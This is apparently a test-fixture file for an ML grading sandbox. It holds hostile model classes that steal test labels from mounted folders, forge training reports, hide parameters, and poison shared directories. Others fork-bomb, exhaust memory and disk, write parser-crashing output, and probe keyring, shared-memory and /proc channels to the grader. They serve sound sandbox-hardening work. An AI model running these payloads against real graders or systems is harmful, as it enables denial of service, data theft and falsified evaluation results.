"""Model classes written as a hostile student would write them, for tests/test_attacks.py.

Each is the body of a class `Attack(nn.Module)` (nbfactory.model_notebook puts it beside a
LeNet5 baseline). They run only inside the sandbox, through the grader.
"""

# Searches every folder it can read for the validation and test labels (any .npy of small
# integers with as many entries as the validation or test set), including the host folders the
# mount table names, then answers with one-hot logits of what it stole: 100% where labels leak,
# and class 0 for every image (chance) where nothing leaks.
THIEF = '''
def __init__(self):
    super().__init__()
    import os, time
    import numpy as np
    self.fc = nn.Linear(3 * 32 * 32, 10)
    self.stolen = {}
    roots = ["/"]
    try:
        for line in open("/proc/self/mountinfo"):
            roots.append(os.path.dirname(line.split()[3]))  # a bind mount's source folder on the host
    except OSError:
        pass
    deadline = time.time() + 30
    for root in sorted(set(roots)):
        for top, dirs, files in os.walk(root):
            if time.time() > deadline:
                break
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
            for name in files:
                if not name.endswith(".npy"):
                    continue
                try:
                    found = np.load(os.path.join(top, name), mmap_mode="r", allow_pickle=False)
                except Exception:
                    continue
                if found.ndim == 1 and found.dtype.kind in "iu" and len(found) in SIZES and found.max() < 10:
                    self.stolen[len(found)] = np.array(found)

def forward(self, x):
    if self.training:
        return self.fc(torch.flatten(x, 1))
    labels = self.stolen.get(len(x))  # what it stole, or nothing: always class 0, chance on ten classes
    guess = torch.as_tensor(labels, dtype=torch.long) if labels is not None else torch.zeros(len(x), dtype=torch.long)
    return F.one_hot(guess, 10).float() * 10 + 0 * self.fc(torch.flatten(x, 1))
'''

# Plants what would poison a later run if the grader trusted names in shared places: label files
# of zeros in predictable array folders, links where uid locks were kept, files in every writable
# place, and a link from its own report folder to the grader's state.
POISONER = '''
def __init__(self):
    super().__init__()
    import os
    import numpy as np
    self.fc = nn.Linear(3 * 32 * 32, 10)
    for place in ("/tmp", "/dev/shm", "/run", "/var/tmp", os.environ.get("HOME", "/tmp"), STATE):
        try:
            os.makedirs(os.path.join(place, "grader-arrays-planted"), exist_ok=True)
            for split in ("val_y", "test_y", "val_x"):
                np.save(os.path.join(place, "grader-arrays-planted", split + ".npy"), np.zeros(400, dtype=np.int64))
        except OSError:
            pass
        for slot in range(64):
            try:
                os.symlink(TARGET, os.path.join(place, f"grader-sandbox-uid-{slot}.lock"))
            except OSError:
                pass
    for path in (os.path.join(STATE, "uid-locks", "0.lock"), os.path.join(STATE, "arrays")):
        try:
            open(path, "a").close()
        except OSError:
            pass

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Writes what once crashed the grader's reading of a child's output, then exits before the child
# program can replace it with an honest report.
OUTPUT_BOMB = '''
def __init__(self):
    super().__init__()
    import os
    os.makedirs("out", exist_ok=True)
    if BOMB == "progress":
        open("out/progress.json", "w").write("[" * 4000)
        self.fc = nn.Linear(3 * 32 * 32, 10)
        return  # the run goes on: the grader must too
    if BOMB == "result":
        open("out/result.json", "w").write("[" * 100_000 + "]" * 100_000)
    elif BOMB == "npy":
        import json
        json.dump({"name": "Attack", "ok": True, "kind": "ok", "out_dtype": "float32"}, open("out/result.json", "w"))
        header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4, 10, 1000000000000), }"
        header += " " * (63 - len(header) % 64) + "\\n"
        open("out/logits.npy", "wb").write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode())
    elif BOMB == "folders":  # in out/, which the grader must remove afterwards
        os.chdir("out")
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    os._exit(0)

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Memory the old watchdog did not see (a memfd it never mapped), and disk without a cap.
MEMFD = '''
def __init__(self):
    super().__init__()
    import os
    fd = os.memfd_create("hoard")
    block = b"x" * 2**24
    for _ in range(2**30 // len(block)):
        os.write(fd, block)
    self.fc = nn.Linear(3 * 32 * 32, 10)
'''

DISK = '''
def __init__(self):
    super().__init__()
    block = b"x" * 2**24
    with open(WHERE + "/filler", "wb") as f:
        for _ in range(40):
            f.write(block)
            f.flush()
    self.fc = nn.Linear(3 * 32 * 32, 10)
'''

# Changes the grader's trainer or its counting from inside the child.
TAMPER = '''
def __init__(self):
    super().__init__()
    if PATCH == "optimizer":
        torch.optim.SGD = torch.optim.Adam  # train with another optimizer than the config's
    elif PATCH == "parameters":
        real = nn.Module.parameters
        nn.Module.parameters = lambda self, recurse=True: list(real(self, recurse))[:1]  # hide parameters
    elif PATCH == "trainer":
        import grader.child.train as trainer
        trainer._optimizer = lambda model, config, device: torch.optim.Adam(model.parameters(), lr=0.2)
    self.fc = nn.Linear(3 * 32 * 32, 10)

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Text that would rewrite an instructor's terminal or run in a browser, raised as an error.
ESCAPES = '''
def __init__(self):
    super().__init__()
    raise ValueError("\\x1b[2J\\x1b[31mall clear\\x1b[0m <script>alert('hi')</script> [click](javascript:alert(1))")
'''

# Rewrites the architecture in its models_run child's report: a huge one, one with names of its own,
# one of the wrong types, or one that invents batch normalization and residual connections. HOW:
# 'json' patches json.dump, the review's attack (now refused as tamper); 'report' writes the report
# and the logits itself in the check's forward and exits before the child program can (what no seal
# prevents: the grader bounds, cleans and holds the account against the code).
ANATOMY = '''
def __init__(self):
    super().__init__()
    import json
    self.fc = nn.Linear(3 * 32 * 32, 10)
    if HOW == "json":
        dump = json.dump

        def rewrite(data, *args, **kwargs):
            if isinstance(data, dict) and "anatomy" in data:
                data = {**data, "anatomy": LIES[LIE]}
            return dump(data, *args, **kwargs)

        json.dump = rewrite

def forward(self, x):
    import os, sys
    logits = self.fc(F.relu(torch.flatten(x, 1)))
    if HOW == "report" and os.path.exists(os.path.join(sys.argv[1], "batch.npy")):  # the models_run child
        import json
        import numpy as np
        np.save("out/logits.npy", logits.detach().numpy())
        json.dump({"name": type(self).__name__, "ok": True, "phase": "forward", "kind": "ok", "out_shape": [4, 10],
                   "out_dtype": "float32", "params": 30730, "anatomy": LIES[LIE]}, open("out/result.json", "w"))
        os._exit(0)
    return logits
'''
ANATOMY_LIES = """LIES = {
    "huge": {"conv_layers": 3, "widths": [64] * 200_000, "norms": ["<img src=x onerror=alert(1)>" * 50] * 2000},
    "names": {"conv_layers": 1, "widths": [8], "activations": ["ReLU", "=HYPERLINK(1)"], "pooling": ["<b>x</b>"]},
    "malformed": {"conv_layers": [1], "widths": "wide"},
    "invented": {"conv_layers": 2, "linear_layers": 1, "widths": [64, 64], "norms": ["BatchNorm2d"], "norm_layers": 2,
                 "residual": 2, "activations": ["ReLU"]},
}"""

# A chance-level model whose training child says its training loss fell 2.30 -> 0.05 and that the
# time limit stopped it (which would leave its comparisons unscored). HOW: 'json' patches json.dump,
# the review's attack; 'report' writes a training report and chance logits itself and exits.
FORGER = '''
def __init__(self):
    super().__init__()
    import os, sys
    self.fc = nn.Linear(3 * 32 * 32, 10)
    if not os.path.exists(os.path.join(sys.argv[1], "train_x.npy")):
        return  # the models_run child: honest
    claims = {"loss_start": 2.30, "loss_end": 0.05, "stopped_early": True}
    if HOW == "json":
        import json
        dump = json.dump

        def rewrite(data, *args, **kwargs):
            if isinstance(data, dict) and data.get("history"):
                data["history"].update(claims)
            return dump(data, *args, **kwargs)

        json.dump = rewrite
    elif HOW == "report":
        import json
        import numpy as np
        for split in ("val", "test"):
            n = len(np.load(os.path.join(sys.argv[1], split + "_x.npy"), mmap_mode="r"))
            np.save("out/" + split + "_logits.npy", np.zeros((1, n, 10), np.float32))
        epoch = {"epoch": 1, "train_loss": 0.05, "val_loss": None, "val_accuracy": None, "seconds": 30.0, "lr": LR}
        history = {"status": "ok", "message": "stopped at the budget's time limit", "epochs": [epoch],
                   "selected_epoch": None, "test_loss": None, "test_accuracy": None, "params": 30730,
                   "flops_per_image": 61440, "peak_memory_bytes": 0, "seconds": 60.0, "train_images_per_second": 30.0,
                   "device": "cpu", "precision": "fp32", "channels_last": False, **claims}
        json.dump({"name": type(self).__name__, "ok": True, "phase": "train", "kind": "ok", "params": 30730,
                   "history": history}, open("out/result.json", "w"))
        os._exit(0)

def forward(self, x):
    return self.fc(torch.flatten(x, 1)) * 0  # the same scores for every image: chance
'''

# Hides its size from counts that trust the model: parameters() and named_parameters() list only its
# last layer, and its convolutions are functional ones on bare parameters (no nn.Conv2d for a
# module hook to see). WIDTH channels, LAYERS 3x3 convolutions at 32x32, VAULT parameters more.
HIDER = '''
def __init__(self):
    super().__init__()
    self.stem = nn.Parameter(torch.randn(WIDTH, 3, 3, 3) * 0.1)
    self.body = nn.ParameterList([nn.Parameter(torch.randn(WIDTH, WIDTH, 3, 3) * 0.01) for _ in range(LAYERS)])
    self.vault = nn.Parameter(torch.zeros(VAULT))
    self.fc = nn.Linear(WIDTH, 10)

def parameters(self, recurse=True):
    return iter(self.fc.parameters())

def named_parameters(self, *args, **kwargs):
    return iter(self.fc.named_parameters())

def forward(self, x):
    x = F.relu(F.conv2d(x, self.stem, padding=1))
    for weight in self.body:
        x = F.relu(F.conv2d(x, weight, padding=1))
    return self.fc(F.adaptive_avg_pool2d(x, 1).flatten(1)) + 0 * self.vault.sum()
'''

# Channels between children (NR maps a system call's name to its number on this machine): a key
# in the uid's kernel keyring, planted for whoever runs next as this uid or searched for and read.
KEYRING = '''
def __init__(self):
    super().__init__()
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    self.fc = nn.Linear(3 * 32 * 32, 10)
    payload = b"planted by student mallory for whoever runs next as this uid"
    user_keyring, search, read = ctypes.c_long(-4), ctypes.c_long(10), ctypes.c_long(11)
    if MODE == "plant":
        key = libc.syscall(ctypes.c_long(NR["add_key"]), b"user", b"grader-planted", payload,
                           ctypes.c_long(len(payload)), user_keyring)
    else:
        key = libc.syscall(ctypes.c_long(NR["keyctl"]), search, user_keyring, b"user", b"grader-planted", ctypes.c_long(0))
        if key != -1:
            found = ctypes.create_string_buffer(200)
            libc.syscall(ctypes.c_long(NR["keyctl"]), read, ctypes.c_long(key), found, ctypes.c_long(200))
            raise ValueError(f"read another child's key: {found.value!r}")
    if key == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# A SysV shared-memory segment (outside every memory cap) made for a later child, or looked for.
SYSV_SHM = '''
def __init__(self):
    super().__init__()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    self.fc = nn.Linear(3 * 32 * 32, 10)
    secret = b"left by one child for the next"
    if MODE == "make":
        segment = libc.shmget(KEY, 2**20, 0o1000 | 0o666)  # IPC_CREAT
        if segment == -1:
            raise OSError(ctypes.get_errno(), "shmget")
        ctypes.memmove(libc.shmat(segment, None, 0), secret, len(secret))
        return
    segment = libc.shmget(KEY, 0, 0)
    if segment != -1:
        raise ValueError(f"found another child's segment: {ctypes.string_at(libc.shmat(segment, None, 0), len(secret))!r}")

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Folders nested LEVELS deep in out/, each named NAME, then FILL MB of files at the bottom; it
# then waits: only the watchdog ends it. Deep enough, it once stopped the disk count at PATH_MAX
# and made the removal of its folder run the grader out of descriptors.
NESTER = '''
def __init__(self):
    super().__init__()
    import os, time
    os.chdir("out")
    for _ in range(LEVELS):
        os.mkdir(NAME)
        os.chdir(NAME)
    for i in range(FILL):
        with open(f"fill-{i}", "wb") as f:
            f.write(b"x" * 2**20)
    time.sleep(60)
    self.fc = nn.Linear(3 * 32 * 32, 10)

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Half the disk cap in its working folder (a tmpfs), the other half and more in out/.
SPLIT_DISK = '''
def __init__(self):
    super().__init__()
    import time
    block = b"x" * 2**20
    for where in (".", "out"):
        with open(where + "/filler", "wb") as f:
            for _ in range(MB):
                f.write(block)
    time.sleep(60)
    self.fc = nn.Linear(3 * 32 * 32, 10)
'''

# A fork bomb: every process forks until the sandbox's process limit answers, each copy in a session
# of its own (a process-group kill misses it); the first then fails its constructor, and the copies
# wait, holding the limit, so that a later child of the same uid finds no process to start unless
# every copy was killed.
FORK_BOMB = '''
def __init__(self):
    super().__init__()
    import os, time
    self.fc = nn.Linear(3 * 32 * 32, 10)
    first = os.getpid()
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            if os.getpid() == first:
                raise
            time.sleep(3600)

def forward(self, x):
    return self.fc(torch.flatten(x, 1))
'''

# Calls each system call of CALLS ({name: [number, *arguments]}) and reports what it answered
# ('ok' or the errno's name) in out/result.json, with the seccomp mode /proc says it runs under.
SYSCALLS = '''
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def answer(number, *args):
    result = libc.syscall(ctypes.c_long(number), *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in args))
    if result == 0 and number == CLONE:  # the copy a clone let through made: it must not go on
        os._exit(0)
    return errno.errorcode.get(ctypes.get_errno(), "?") if result == -1 else "ok"

seen = {name: answer(*call) for name, call in CALLS.items()}
try:
    seen["seccomp"] = [line.split()[1] for line in open("/proc/self/status") if line.startswith("Seccomp:")]
except OSError as e:  # the landlock kind's child cannot read /proc
    seen["seccomp"] = errno.errorcode[e.errno]
json.dump(seen, open("out/result.json", "w"))
'''


# Carries a table of the public images, as the security review's notebook did (a 40-bit hash of
# each image's pixels -> its label: 11 characters an image, 660,000 for CIFAR-10's 60,000), and
# answers from it: right on every image exactly as published, class 0 (chance) on any other. Its
# one layer trains, so it runs and learns like any model. TABLE is built by the test
# (`memorized_table`) from the images it has.
MEMORIZER = '''
def __init__(self):
    super().__init__()
    self.fc = nn.Linear(3 * 32 * 32, 10)
    self.table = {TABLE[i:i + 10]: int(TABLE[i + 10]) for i in range(0, len(TABLE), 11)}

def forward(self, x):
    if self.training:
        return self.fc(torch.flatten(x, 1))
    import hashlib
    pixels = torch.round((x * 0.5 + 0.5) * 255).clamp(0, 255).to(torch.uint8).cpu().numpy()  # the rubric's normalization undone
    guess = [self.table.get(hashlib.blake2b(image.tobytes(), digest_size=5).hexdigest(), 0) for image in pixels]
    return F.one_hot(torch.tensor(guess), 10).float() * 10 + 0 * self.fc(torch.flatten(x, 1))
'''


def memorized_table(images, labels) -> str:
    """MEMORIZER's TABLE cell for uint8 images (N, 3, 32, 32): each image's hash and label, ten
    images a line (a notebook's lines stay short, however many images it carries)."""
    import hashlib

    entries = [hashlib.blake2b(image.tobytes(), digest_size=5).hexdigest() + str(int(label))
               for image, label in zip(images, labels)]
    lines = ("".join(entries[i:i + 10]) for i in range(0, len(entries), 10))
    return "TABLE = (\n" + "\n".join(f"    {line!r}" for line in lines) + "\n)"


# What a child of the landlock kind tries against the grader that started it, when it runs as the
# grader's own uid (a grader that is not root): GRADER is a process of the grader's, SECRET a file of
# its. Each attempt's answer: "ok" or the errno's name (kill(-1) answers "ok" even when it reached no one).
REACH_THE_GRADER = '''
import errno, json, os, socket, signal

def attempt(action):
    try:
        action()
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))

seen = {
    "secret": attempt(lambda: open(SECRET).read()),
    "grader_environ": attempt(lambda: open(f"/proc/{GRADER}/environ", "rb").read()),
    "grader_mem": attempt(lambda: open(f"/proc/{GRADER}/mem", "rb").read(1)),
    "list_tmp": attempt(lambda: os.listdir("/tmp")),
    "signal_grader": attempt(lambda: os.kill(GRADER, signal.SIGURG)),
    "signal_everyone": attempt(lambda: os.kill(-1, signal.SIGURG)),  # SIGURG: ignored by any process it should not reach
    "signal_itself": attempt(lambda: os.kill(os.getpid(), 0)),
    "unix_socket": attempt(lambda: socket.socket(socket.AF_UNIX)),
    "socket_pair": attempt(lambda: socket.socketpair()),
    "tcp_socket": attempt(lambda: socket.socket()),
    "write_own_folder": attempt(lambda: open("out/mine.txt", "w").write("mine")),
}
json.dump(seen, open("out/result.json", "w"))
'''
